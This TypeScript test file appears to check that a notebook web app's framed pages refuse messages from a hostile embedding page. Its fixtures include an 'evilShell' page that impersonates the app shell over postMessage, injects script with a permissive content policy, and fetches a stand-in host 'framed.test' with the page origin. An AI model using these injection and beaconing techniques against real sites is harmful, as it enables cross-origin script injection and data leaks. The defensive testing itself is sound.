import { notebookFile } from '../notebookFile.ts';
import { expect, test } from './attack.ts';
import { bokehItem, model } from './bokehItem.ts';
import { notebookLink } from './notebookLink.ts';
import type { Target } from './target.ts';

const RAN = 'globalThis.attackRan = ["framed"]; fetch(`https://framed.test/?${origin}`)';
const NOTEBOOK = notebookFile('Framed', [{ id: 'a', type: 'module', text: RAN }]);
const STORED = {
  a: [{ kind: 'shown', shown: { data: bokehItem(model('Div', { text: 'x' }), model('CustomJS', { code: RAN })) } }],
};

/** A page that plays the shell for every notebook page it can reach, in the site's own form and in Comlink's. */
const evilShell = (body: string) => `<!doctype html><title>Evil</title>${body}<script>
const notebook = { html: ${JSON.stringify(NOTEBOOK).replaceAll('<', '\\u003c')}, stored: ${JSON.stringify(STORED)}, origin: 'own', trusted: true, running: true, hosts: '*', siteUrl: 'https://framer.test/' };
const serve = (target) => {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => {
    const name = data.method ?? data.path?.[0];
    const value = name === 'opened' ? notebook : name === 'settings' ? {} : undefined;
    port1.postMessage(data.type ? { id: data.id, type: 'RAW', value } : { id: data.id, value });
  };
  try { target.postMessage('skybook:frame-port', '*', [port2]); } catch {}
  const policy = "default-src * 'unsafe-inline'";
  for (const message of [{ policy }, { html: '<script>' + ${JSON.stringify(RAN)} + '<' + '/script>' }, { policy, html: '<script>' + ${JSON.stringify(RAN)} + '<' + '/script>' }]) target.postMessage(message, '*');
};
const all = (target) => { try { serve(target); for (let i = 0; i < target.length; i++) all(target[i]); } catch {} };
addEventListener('message', ({ source }) => source && serve(source));
setInterval(() => { for (let i = 0; i < frames.length; i++) all(frames[i]); if (globalThis.popup) all(popup); }, 100);
</script>`;

test('the page that holds notebooks works for no page but the site’s own', async ({ target }) => {
  const framed = (rights: string) => `<iframe ${rights} src="${target.siteUrl}stage.html"></iframe>`;
  await visit(
    target,
    evilShell(
      framed('') +
        framed('sandbox="allow-scripts"') +
        framed('sandbox="allow-scripts allow-same-origin"') +
        framed('name="notebook"'),
    ),
  );
  await waitForFrames(target, 4);
  await target.settle();
  await expectNothing(target);
});

test('nor the page in which their HTML plays', async ({ target }) => {
  const framed = (rights: string) => `<iframe ${rights} src="${target.siteUrl}output.html"></iframe>`;
  const inner = `${framed('')}${framed('sandbox="allow-scripts"')}<script>setInterval(() => { for (let i = 0; i < frames.length; i++) frames[i].postMessage({ policy: '', html: '<script>fetch("https://framed.test/within")<' + '/script>' }, '*'); }, 100)</script>`;
  target.internet.serve('https://framer.test/inner', { type: 'text/html', body: inner });
  await visit(
    target,
    evilShell(`${framed('')}${framed('sandbox="allow-scripts"')}<iframe src="https://framer.test/inner"></iframe>`),
  );
  await waitForFrames(target, 5);
  await target.settle();
  await expectNothing(target);
});

test('nor when it stands alone in a window of theirs', async ({ target }) => {
  await visit(target, evilShell(`<script>globalThis.popup = open('${target.siteUrl}stage.html')</script>`));
  await expect.poll(() => target.windows.length).toBe(1);
  await target.windows[0]!.waitForLoadState();
  await target.settle();
  await expectNothing(target);
});

test('nor a notebook’s frame inside the site in a window of theirs', async ({ target }) => {
  await visit(
    target,
    evilShell(`<script>globalThis.popup = open('${target.siteUrl}index.html${notebookLink(NOTEBOOK)}')</script>`),
  );
  await expect.poll(() => target.windows[0]?.frames().length).toBeGreaterThanOrEqual(3);
  await target.windows[0]!.frameLocator('iframe.stage')
    .frameLocator('iframe[data-notebook]')
    .locator('[data-cell="a"]')
    .waitFor();
  await target.settle();
  expect.soft(target.reached().filter((host) => host === 'framed.test')).toEqual([]);
  await expect(
    target.windows[0]!.frameLocator('iframe.stage').frameLocator('iframe[data-notebook]').locator('[data-cell="a"]'),
  ).toHaveAttribute('data-state', 'idle');
});

for (const [what, hash] of [
  ['home', ''],
  ['a notebook', notebookLink(NOTEBOOK)],
  ['a shipped notebook', '#cells/tour'],
] as const) {
  test(`framed by another site, the site shows no more than a way to a window: ${what}`, async ({ target }) => {
    await visit(
      target,
      `<!doctype html><iframe width="900" height="700" src="${target.siteUrl}index.html${hash}"></iframe>`,
    );
    const site = target.page.frameLocator('iframe').first();
    await expect(site.locator('body')).not.toBeEmpty();
    await target.settle();
    const pressable = await site
      .locator('button, a[href], input, select, textarea, iframe')
      .evaluateAll((all) => all.map((one) => `${one.localName} ${one.getAttribute('target') ?? ''}`));
    expect(pressable.filter((one) => !/^a _blank|^button/.test(one))).toEqual([]);
    expect(pressable.length).toBeLessThanOrEqual(1);
  });
}

async function visit(target: Target, html: string): Promise<void> {
  target.internet.serve('http://framer.test/', { type: 'text/html', body: html });
  for (const name of ['bokeh', 'bokeh-gl', 'bokeh-widgets', 'bokeh-api', 'bokeh-tables'])
    target.internet.serve(`https://framer.test/vendor/bokeh/${name}.esm.min.js`, {
      type: 'text/javascript',
      body: `${RAN}; export default {};`,
    });
  await target.page.goto('http://framer.test/');
}

async function waitForFrames(target: Target, count: number): Promise<void> {
  await expect.poll(() => target.page.frames().length).toBe(1 + count);
  await Promise.all(target.page.frames().map((frame) => frame.waitForLoadState()));
}

async function expectNothing(target: Target): Promise<void> {
  const frames = [target.page, ...target.windows].flatMap((page) => page.frames());
  const drawn = await Promise.all(frames.map((frame) => frame.locator('[data-cell]').count()));
  expect
    .soft(
      drawn.reduce((sum, count) => sum + count, 0),
      'cells that were drawn',
    )
    .toBe(0);
  const ran = await Promise.all(
    frames.map((frame) => frame.evaluate(() => (globalThis as { attackRan?: unknown }).attackRan)),
  );
  expect
    .soft(
      ran.filter((mark) => mark !== undefined),
      'what ran',
    )
    .toEqual([]);
  expect
    .soft(
      target.reached().filter((host) => host === 'framed.test'),
      'who was told',
    )
    .toEqual([]);
}
